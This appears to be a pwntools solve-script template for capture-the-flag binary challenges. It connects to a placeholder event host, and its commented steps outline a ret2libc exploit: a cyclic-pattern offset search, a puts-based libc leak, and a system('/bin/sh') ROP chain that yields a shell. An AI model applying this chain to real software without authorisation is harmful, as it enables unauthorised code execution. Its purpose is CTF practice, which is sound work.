#!/usr/bin/env python3
# pwntools solve template. Usage: python3 solve.py [LOCAL|REMOTE|GDB]
# REMOTE host/port must be the challenge endpoint listed in ../SCOPE.md.
from pwn import *  # noqa: F401,F403

BIN = "./files/chal"
LIBC = "./files/libc.so.6"   # delete if not provided
HOST, PORT = "chall.EVENT-DOMAIN", 31337

context.binary = elf = ELF(BIN, checksec=False)
libc = ELF(LIBC, checksec=False) if os.path.exists(LIBC) else None
context.log_level = "info"

GDB_SCRIPT = """
b *main
continue
"""


def start():
    if args.REMOTE:
        return remote(HOST, PORT)
    if args.GDB:
        return gdb.debug([BIN], gdbscript=GDB_SCRIPT)
    return process([BIN])


io = start()

# --- 1. find the offset -------------------------------------------------
# io.sendlineafter(b"> ", cyclic(200)); io.wait(); core = io.corefile
# offset = cyclic_find(core.read(core.rsp, 8))   # amd64
offset = 0

# --- 2. leak ------------------------------------------------------------
# rop = ROP(elf)
# rop.puts(elf.got["puts"]); rop.call(elf.symbols["main"])
# io.sendlineafter(b"> ", flat({offset: rop.chain()}))
# leak = u64(io.recvline().strip().ljust(8, b"\x00"))
# libc.address = leak - libc.symbols["puts"]
# log.success(f"libc base {hex(libc.address)}")

# --- 3. win -------------------------------------------------------------
# rop2 = ROP(libc)
# rop2.raw(rop2.find_gadget(["ret"])[0])   # stack alignment
# rop2.system(next(libc.search(b"/bin/sh\x00")))
# io.sendlineafter(b"> ", flat({offset: rop2.chain()}))

io.interactive()
